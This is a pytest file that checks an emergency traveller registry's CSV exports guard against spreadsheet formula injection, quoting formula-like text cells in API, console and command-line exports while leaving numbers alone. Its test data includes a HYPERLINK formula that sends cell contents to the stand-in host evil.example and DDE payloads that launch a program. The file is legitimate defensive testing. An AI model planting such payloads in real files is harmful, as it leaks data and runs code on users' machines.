"""CSV exports cannot run code: a text cell a spreadsheet would take for a formula (starting
with =, +, -, @, tab or carriage return) starts with a single quote instead, in every CSV the
system writes (console and API exports, `emergency affected --format csv`); numbers stay numbers."""
from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest

from emergency.services.exports import FIELDS, csv_cell, to_csv
from registry.models import Companion
from tests.conftest import api_headers, insert_traveller, login

TODAY = date.today()
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
DDE = "-2+3+cmd|' /C calc'!A0"
HOSTILE = {
    "given_name": HYPERLINK,
    "family_name": DDE,
    "external_id": "\t=SUM(1,1)",
    "place": "@SUM(1+1)*cmd|' /C calc'!A0",
    "email": "=1+1@example.org",
}


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), (DDE, "'" + DDE),
    ("Ann", "Ann"), ("a=1", "a=1"), ("", ""), (None, ""),
    (-9.14, -9.14), (3, 3), (True, True),
    ("-9.14", "-9.14"), ("+351912345678", "+351912345678"), ("-.5", "-.5"),
    ("-9.14 ", "'-9.14 "), ("+1-1", "'+1-1"), ("-", "'-"),
])
def test_a_cell_that_a_spreadsheet_would_run_is_quoted_and_a_number_is_not(value, cell):
    assert csv_cell(value) == cell


def test_the_csv_writer_quotes_every_text_column():
    rows = [{"a": "=1", "b": -1.5, "c": "ok", "d": None}]
    assert to_csv(rows, ["a", "b", "c", "d"]).decode() == "a,b,c,d\r\n'=1,-1.5,ok,\r\n"


@pytest.fixture
def incident_id(app, make_incident):
    """One traveller in Lisbon whose every text field is a formula, with a companion whose
    name is one too."""
    with app.app_context():
        from emergency.core.database import db_session

        session = db_session()
        traveller = insert_traveller(
            session, {"country": "PT", "lat": 38.72, "lon": -9.14, "place": HOSTILE["place"],
                      "arrival": TODAY - timedelta(days=1), "departure": TODAY + timedelta(days=5)},
            given_name=HOSTILE["given_name"], family_name=HOSTILE["family_name"],
            external_id=HOSTILE["external_id"], email=HOSTILE["email"], phone="+351912345678", language="en")
        session.add(Companion(traveller_id=traveller.id, given_name="@Bea", family_name="\rLee", age_band="18-64",
                              email="-bea@example.org", phone="+351912000000"))
        session.commit()
    return make_incident("Lisbon earthquake", radius_km=100, starts_at=f"{TODAY.isoformat()}T00:00:00Z")


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _check(row: dict) -> None:
    for name in ("given_name", "family_name", "external_id", "place", "email"):
        if name in row:
            assert row[name] == "'" + HOSTILE[name], name
    if "companion_names" in row:
        assert row["companion_names"].startswith("'@Bea \rLee")
    if "companion_contacts" in row:
        assert row["companion_contacts"].startswith("'@Bea \rLee: -bea@example.org")
    if "lon" in row:
        assert row["lon"] == "-9.14" and row["lat"] == "38.72"  # numbers, not quoted
    if "phone" in row:
        assert row["phone"] == "+351912345678"
    for name, value in row.items():  # nothing in the file starts a formula
        assert not value.startswith(("=", "@", "\t", "\r")), (name, value)


def test_the_api_export_quotes_every_text_field(client, app, incident_id):
    response = client.get(f"/api/v1/incidents/{incident_id}/export", headers=api_headers(app),
                          query_string={"format": "csv", "fields": ",".join(FIELDS)})
    assert response.status_code == 200
    [row] = _rows(response.get_data(as_text=True))
    _check(row)
    assert set(row) == set(FIELDS)


def test_the_console_export_quotes_every_text_field(client, app, incident_id):
    login(client, "coordinator@example.org")
    response = client.get(f"/incidents/{incident_id}/export.csv?fields=" + ",".join(FIELDS))
    assert response.status_code == 200
    [row] = _rows(response.get_data(as_text=True))
    _check(row)


def test_the_command_line_csv_quotes_every_text_field(runner, app, incident_id):
    result = runner.invoke(args=["affected", "circle:38.72,-9.14,50", "--at", TODAY.isoformat(), "--format", "csv"])
    assert result.exit_code == 0, result.output
    [row] = _rows(result.stdout)
    _check(row)
    assert row["distance_km"] == "0.0"
